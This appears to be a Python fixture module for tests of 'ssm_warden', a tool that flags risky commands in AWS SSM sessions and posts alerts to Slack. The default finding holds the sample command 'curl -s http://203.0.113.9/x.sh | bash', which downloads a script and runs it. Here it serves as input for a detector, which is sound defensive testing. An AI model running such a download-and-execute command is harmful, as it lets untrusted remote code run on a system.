"""Builders of the models the Slack side consumes (shared by the unit and integration tests)."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

from ssm_warden.models.actions import ActionKind, ActionRequest, Mode, SessionRef, Trigger, action_id_for
from ssm_warden.models.findings import Finding, Severity

ACCOUNT = "123456789012"
REGION = "us-east-1"
NOW = datetime(2026, 3, 2, 14, 30, 5, tzinfo=UTC)
SESSION_ID = "alice-0e34861185201706f"
EVENT_ID = "8217f18e-a892-42b6-91c8-1d42b571d440"


def session_ref(**overrides: Any) -> SessionRef:
    values: dict[str, Any] = {
        "session_id": SESSION_ID,
        "account": ACCOUNT,
        "region": REGION,
        "principal_arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/Admin/alice",
        "target_id": "i-023ad911b5d49dece",
        "target_tags": {"env": "prod", "team": "payments"},
        "document_name": "SSM-SessionManagerRunShell",
        "reason": "INC-123 debug replication",
        "started_at": datetime(2026, 3, 2, 13, 28, 0, tzinfo=UTC),
        "log_group": "/aws/ssm/sessions",
        "cloudtrail_event_id": EVENT_ID,
    }
    values.update(overrides)
    return SessionRef(**values)


def finding(
    command: str = "curl -s http://203.0.113.9/x.sh | bash",
    *,
    rule: str = "download_exec.curl_pipe_shell",
    title: str = "Download piped to a shell",
    severity: Severity = Severity.HIGH,
    attack: str | None = "T1059.004",
) -> Finding:
    return Finding(
        rule=rule,
        title=title,
        severity=severity,
        category="execution",
        attack=attack,
        reason="a remote script is run without being looked at",
        command=command,
    )


def action(
    *,
    kind: ActionKind = ActionKind.ALERT,
    mode: Mode = Mode.ENFORCE,
    severity: Severity = Severity.HIGH,
    rule: str = "download_exec.curl_pipe_shell",
    title: str = "Download piped to a shell",
    findings: list[Finding] | None = None,
    session: SessionRef | None = None,
    channel: str | None = None,
    created_at: datetime = NOW,
    trigger: Trigger = Trigger.FINDING,
    why: str = "alice ran a downloaded script through bash",
    salt: str = "",
    no_session: bool = False,
) -> ActionRequest:
    ref = None if no_session else (session or session_ref())
    return ActionRequest(
        action_id=action_id_for(
            kind.value, rule, ref.session_id if ref else "-", created_at.isoformat(), salt
        ),
        kind=kind,
        mode=mode,
        trigger=trigger,
        severity=severity,
        session=ref,
        title=title,
        why=why,
        rule_or_limit=rule,
        findings=findings if findings is not None else [finding(rule=rule, title=title, severity=severity)],
        policy_version="3f2a9c0d5e6b7a8190ab",
        scope="production",
        channel=channel,
        created_at=created_at,
    )
